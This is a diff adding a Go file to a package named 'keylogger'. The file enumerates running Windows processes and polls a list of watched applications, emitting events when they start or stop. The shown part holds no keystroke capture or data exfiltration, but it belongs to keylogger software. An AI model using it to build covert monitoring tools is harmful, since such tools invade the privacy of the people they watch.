@@ -0,0 +1,55 @@
+package keylogger
+
+import (
+	"time"
+	"unsafe"
+
+	"golang.org/x/sys/windows"
+)
+
+/*
+	DefaultAppPollInterval is how often watched applications are polled
+	when AppPollInterval is not set.
+*/
+const DefaultAppPollInterval = time.Second
+
+func (l *Logger) watchApps(stop <-chan struct{}) {
+	interval := l.AppPollInterval
+	if interval <= 0 {
+		interval = DefaultAppPollInterval
+	}
+	t := appTracker{apps: l.WatchApps}
+	ticker := time.NewTicker(interval)
+	defer ticker.Stop()
+	for {
+		if procs, err := processes(); err == nil {
+			for _, e := range t.update(procs, time.Now()) {
+				l.emitSide(e, stop)
+			}
+		}
+		select {
+		case <-ticker.C:
+		case <-stop:
+			return
+		}
+	}
+}
+
+/*
+	Returns the executable base names of all running processes by PID.
+*/
+func processes() (map[uint32]string, error) {
+	snap, err := windows.CreateToolhelp32Snapshot(windows.TH32CS_SNAPPROCESS, 0)
+	if err != nil {
+		return nil, err
+	}
+	defer windows.CloseHandle(snap)
+
+	procs := make(map[uint32]string)
+	var pe windows.ProcessEntry32
+	pe.Size = uint32(unsafe.Sizeof(pe))
+	for err = windows.Process32First(snap, &pe); err == nil; err = windows.Process32Next(snap, &pe) {
+		procs[pe.ProcessID] = windows.UTF16ToString(pe.ExeFile[:])
+	}
+	return procs, nil
+}